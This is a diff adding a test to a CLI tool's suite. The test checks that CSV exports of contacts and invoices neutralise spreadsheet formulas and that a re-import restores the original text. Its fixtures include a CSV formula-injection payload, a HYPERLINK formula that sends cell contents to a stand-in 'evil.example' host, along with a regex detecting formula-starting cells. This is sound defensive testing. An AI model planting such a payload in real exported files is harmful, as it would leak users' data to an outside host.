@@ -310,6 +310,26 @@ test('an export can be imported into an empty business, for every kind and both 
   assert.match(stdout, /line 2: id is taken/);
 });
 
+test('a CSV export has no cell that a spreadsheet computes, and the import gets the texts back', async () => {
+  const { business: source } = await connectBusiness(server, 'Formulas');
+  const { business: target } = await connectBusiness(server, 'Formulas again');
+  const formula = '=HYPERLINK("https://evil.example?"&A1,"Open")';
+  const texts = { jobTitle: "'=1+1", phone: '+44 20 7946 0018', notes: `Mara;@SUM(A1)\n-2+3\n'quoted'` };
+  await load(source, 'contacts', [{ name: formula, ...texts }]);
+  await load(source, 'invoices', [
+    { customer: formula, currency: 'GBP', lines: [{ description: `x;${formula}`, quantity: '1', unitPrice: '1' }] },
+  ]);
+  for (const kind of ['contacts', 'invoices']) {
+    const output = join(cli.folder, `formulas-${kind}.csv`);
+    await cli.json(['export', ...argsOf(source, kind), '--output', output], { env });
+    const { status, stdout } = await cli.run(['import', output, ...argsOf(target, kind)], { env });
+    assert.equal(status, 0, stdout);
+    assert.doesNotMatch(readFileSync(output, 'utf8'), /(^|[,;\n])"*([=@]|[+-]\D|-2)/);
+    const [before, after] = await Promise.all([source, target].map((each) => dump(each, kind)));
+    assert.deepEqual(after?.map(withoutIds), before?.map(withoutIds));
+  }
+});
+
 /** The example of the documentation. References are by name or e-mail address. */
 let samples = 0;
 function sample(name: string): Values {
